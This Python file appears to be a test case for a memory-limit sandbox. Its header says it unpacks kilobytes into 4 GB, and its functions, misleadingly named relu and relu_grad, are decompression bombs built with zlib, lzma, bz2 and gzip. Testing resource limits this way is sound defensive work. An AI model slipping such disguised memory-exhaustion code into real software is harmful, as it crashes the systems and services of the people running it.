# tries: unpack some kilobytes to 4 GB: zlib, gzip, bz2, lzma
# needs: rlimits
# says: asked for more memory than there is
import bz2
import gzip
import lzma
import zlib

ROOM = 4 << 30
kept = []


def relu(x):
    squeeze = zlib.compressobj(9)
    small = squeeze.compress(bytes(32 << 20)) + squeeze.flush(zlib.Z_FULL_FLUSH)
    whole = zlib.decompressobj(-15)
    kept.append(whole.decompress(small[2:]))
    while len(kept) < ROOM >> 25:
        kept.append(whole.decompress(small[2:]))


def relu_grad(x):
    if getattr(x, "ndim", 0) == 1:
        small = lzma.compress(bytes(8 << 20), preset=0)
        return lzma.decompress(small * (ROOM >> 23))
    raise ValueError(bz2.decompress(bz2.compress(bytes(1 << 20))) == gzip.decompress(gzip.compress(bytes(1 << 20))))
